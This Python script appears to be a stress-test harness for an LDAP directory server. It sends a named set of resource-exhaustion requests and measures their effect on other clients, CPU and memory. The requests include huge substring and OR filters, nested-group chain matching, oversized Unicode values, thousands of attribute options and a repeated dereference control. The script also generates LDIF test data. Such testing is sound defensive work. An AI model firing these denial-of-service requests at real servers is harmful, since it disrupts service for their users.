#!/usr/bin/env python3
"""Requests that are meant to stop a server: how long each takes, how long another client waits for an answer meanwhile, and whether the
work ends with its connection.

    attacks.py ldif > data.ldif             the data: 20,000 people, a group of them, an entry of 20,000 values, 300 dense groups
    attacks.py PORT PID [NAME[:COUNT]...]   sends each attack, COUNT times on one connection
"""

import sys
import threading
import time

from wire import EVERYTHING, Client, control, memory, octets, processor_seconds, search, tlv

BASE = "dc=example,dc=com"
PERSON = "uid=u0,ou=people," + BASE
BIG, LONG = "cn=big,ou=groups," + BASE, "cn=long,ou=groups," + BASE
PEOPLE, GROUPS, DENSE = 20_000, 300, 150


def equal(name, value):
    return tlv(0xA3, octets(name), octets(value))


def contains(name, *parts):
    return tlv(0xA4, octets(name), tlv(0x30, *[tlv(0x81, part.encode()) for part in parts]))


def any_of(count):
    return tlv(0xA1, *[contains("description", f"zz{number}") for number in range(count)])


def chain(target):
    return tlv(0xA9, tlv(0x81, b"1.2.840.113556.1.4.1941"), tlv(0x82, b"member"), tlv(0x83, target.encode()))


def matched(*items):
    return control("1.2.826.0.1.3344810.2.3", tlv(0x30, *items))


def dereference(count):
    names = ["cn", "sn", "mail", "description", "objectClass"]
    return control("1.3.6.1.4.1.4203.666.5.16", tlv(0x30, *[tlv(0x30, octets("member"), tlv(0x30, *map(octets, names)))] * count))


PHRASES = "\ufdfa" * 60_000
SORT = control("1.2.840.113556.1.4.473", tlv(0x30, tlv(0x30, octets("sn"))))
ATTACKS = {
    "dereference-60": (None, lambda n: search(n, BIG, 0, EVERYTHING, ["1.1"], dereference(60))),
    "dereference": (None, lambda n: search(n, BIG, 0, EVERYTHING, ["1.1"], dereference(1))),
    "chain": (PERSON, lambda n: search(n, BASE, 2, chain("cn=nobody," + BASE), ["1.1"])),
    "matched-equal": (
        PERSON,
        lambda n: search(n, LONG, 0, EVERYTHING, [], matched(*[equal("description", f"no {i}") for i in range(3000)])),
    ),
    "matched-parts": (
        PERSON,
        lambda n: search(n, LONG, 0, EVERYTHING, [], matched(*[contains("description", f"no{i}") for i in range(3000)])),
    ),
    "phrases": (PERSON, lambda n: search(n, BASE, 2, equal("cn", PHRASES), ["1.1"])),
    "phrases-inside": (PERSON, lambda n: search(n, BASE, 2, contains("cn", PHRASES), ["1.1"])),
    "substrings": (PERSON, lambda n: search(n, BASE, 2, contains("description", *["a"] * 7000), ["1.1"])),
    "or-substrings": (PERSON, lambda n: search(n, BASE, 2, any_of(7000), ["1.1"])),
    "or-one-entry": (PERSON, lambda n: search(n, LONG, 0, any_of(7000), ["1.1"])),
    "selection": (PERSON, lambda n: search(n, BASE, 2, EVERYTHING, [f"sn;lang-x{i}" for i in range(16_000)])),
    "sort": (PERSON, lambda n: search(n, BASE, 2, EVERYTHING, ["1.1"], SORT)),
    "big-entry": (PERSON, lambda n: search(n, BIG, 0, EVERYTHING)),
    "all": (PERSON, lambda n: search(n, BASE, 2, equal("cn", "nobody"), ["1.1"])),
}


def ldif():
    def entry(name, *lines):
        print(f"dn: {name}\n" + "\n".join(lines) + "\n")

    entry(BASE, "objectClass: domain", "dc: example")
    for unit in ("people", "groups", "dense"):
        entry(f"ou={unit},{BASE}", "objectClass: organizationalUnit", "ou: " + unit)
    for i in range(PEOPLE):
        lines = [f"uid: u{i}", f"cn: User {i}", f"sn: S{i * 7919 % PEOPLE}", f"mail: u{i}@example.com"]
        lines += ["userPassword: secret", f"description: a person of number {i}"]
        entry(f"uid=u{i},ou=people,{BASE}", "objectClass: inetOrgPerson", *lines)
    members = [f"member: uid=u{i},ou=people,{BASE}" for i in range(PEOPLE)]
    entry(BIG, "objectClass: groupOfNames", "cn: big", *members)
    values = ["description: " + "a" * 60 + f" value {i}" for i in range(PEOPLE)]
    entry(LONG, "objectClass: device", "cn: long", *values)
    for i in range(GROUPS):
        members = [f"member: cn=g{(i + k) % GROUPS},ou=dense,{BASE}" for k in range(1, DENSE + 1)]
        entry(f"cn=g{i},ou=dense,{BASE}", "objectClass: groupOfNames", f"cn: g{i}", *members)


class Others:
    """Clients that ask for one entry, one after the other, and remember the slowest answer."""

    def __init__(self, port):
        self.clients = [Client(port) for _ in range(4)]
        self.slowest, self.ends = 0.0, threading.Event()
        self.thread = threading.Thread(target=self.run)
        self.thread.start()

    def run(self):
        request = search(7, PERSON, 0, EVERYTHING, ["1.1"])
        while not self.ends.is_set():
            for client in self.clients:
                start = time.perf_counter()
                client.socket.sendall(request)
                client.results(1)
                self.slowest = max(self.slowest, time.perf_counter() - start)
            time.sleep(0.001)

    def end(self):
        self.ends.set()
        self.thread.join()


def attack(port, pid, name, count):
    who, request = ATTACKS[name]
    others = Others(port)
    attacker = Client(port, who)
    time.sleep(0.3)
    others.slowest, start = 0.0, time.perf_counter()
    pipeline = b"".join(request(number) for number in range(2, 2 + count))
    threading.Thread(target=attacker.socket.sendall, args=(pipeline,)).start()
    codes, entries, size = attacker.results(count)
    took, slowest, held = time.perf_counter() - start, others.slowest, memory(pid)
    others.end()
    attacker.socket.close()
    # Once more, by a client that leaves after a moment.
    attacker = Client(port, who)
    attacker.socket.sendall(request(2))
    time.sleep(0.2)
    attacker.socket.close()
    time.sleep(0.3)
    before = processor_seconds(pid)
    time.sleep(1)
    after = processor_seconds(pid) - before
    print(f"{name:15} x{count:<3} {took:7.2f} s  {slowest * 1e3:8.1f} ms  {after:5.2f} s  {held:5} MB  {codes} {entries} entries {size} octets", flush=True)


def main(arguments):
    if arguments == ["ldif"]:
        ldif()
        return
    port, pid = map(int, arguments[:2])
    print("attack               answered  slowest beside  after leaving  memory  results")
    for name in arguments[2:] or ATTACKS:
        name, _, count = name.partition(":")
        attack(port, pid, name, int(count or 1))


if __name__ == "__main__":
    main(sys.argv[1:])
